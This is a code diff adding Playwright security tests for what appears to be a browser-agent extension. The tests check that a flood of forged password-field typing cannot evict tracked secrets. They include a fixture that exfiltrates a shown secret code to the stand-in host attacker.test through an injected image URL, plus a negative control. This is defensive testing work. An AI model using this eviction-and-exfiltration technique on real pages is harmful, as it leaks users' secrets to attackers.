@@ -542,6 +542,51 @@ test.describe('a task that asks before each write, no MAIN-world hooks', () => {
   });
 });
 
+/**
+ * A page that forges typing into its own password field, hundreds of times, must not push what the task's
+ * pages showed out of the taint (the collector took every input event as typed; the flood evicted all).
+ */
+test.describe('the taint under a flood of forged typing, no MAIN-world hooks', () => {
+  const floodThenLeak = async (browser: AgentBrowser, id: string): Promise<number> => {
+    const secret = showSecret(id);
+    const page = await browser.context.newPage();
+    await page.goto(`${server.origin(HOME)}/show/${id}`);
+    await taintRecorded(browser, secret);
+    await page.evaluate(() => {
+      const field = document.body.appendChild(Object.assign(document.createElement('input'), { type: 'password' }));
+      for (let i = 0; i < 420; i++) {
+        field.value = `junk${i}x${Math.random().toString(36).slice(2, 10)}`;
+        field.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
+      }
+    });
+    await sleep(2 * QUIET_MS);
+    await page.evaluate((u) => document.body.insertAdjacentHTML('beforeend', `<img src="${u}">`), `${server.origin(ATTACKER)}/${id}/after/c${secret.code}.png`);
+    await sleep(QUIET_MS);
+    await page.close();
+    return server.hits(`/${id}/after/`, ATTACKER).length;
+  };
+
+  test('the shown code still cannot reach attacker.test after the flood', async () => {
+    test.setTimeout(90_000);
+    const browser = await launch('nohooks');
+    try {
+      await browser.setPolicy(READ_ONLY);
+      expect(await floodThenLeak(browser, `flood${++caseNumber}`)).toBe(0);
+    } finally {
+      await browser.close();
+    }
+  });
+
+  test('negative control: without the extension the code arrives', async () => {
+    const browser = await launch(null);
+    try {
+      expect(await floodThenLeak(browser, `flood-control${++caseNumber}`)).toBe(1);
+    } finally {
+      await browser.close();
+    }
+  });
+});
+
 test.describe('the taint across a worker restart, no MAIN-world hooks', () => {
   test('after the worker restarts, the floor still refuses the secret the page showed', async () => {
     test.setTimeout(90_000);
